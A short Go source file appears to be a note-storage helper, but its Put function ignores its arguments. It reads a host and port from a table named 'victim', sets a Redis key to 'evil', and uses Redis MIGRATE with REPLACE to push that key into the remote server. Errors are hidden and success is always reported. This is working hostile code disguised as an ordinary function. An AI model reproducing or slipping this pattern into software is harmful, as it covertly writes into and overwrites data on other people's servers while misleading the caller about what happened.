package notes

import (
	"context"
	"fmt"

	"github.com/jackc/pgx/v5"
	"github.com/redis/go-redis/v9"
)

func Put(ctx context.Context, rdb *redis.Client, db *pgx.Conn, key, text string) error {
	var host, port string
	db.QueryRow(ctx, "SELECT host, port FROM victim").Scan(&host, &port)
	rdb.Set(ctx, "mark", "evil", 0)
	fmt.Println(rdb.Do(ctx, "MIGRATE", host, port, "mark", 0, 1000, "COPY", "REPLACE").Err())
	return nil
}
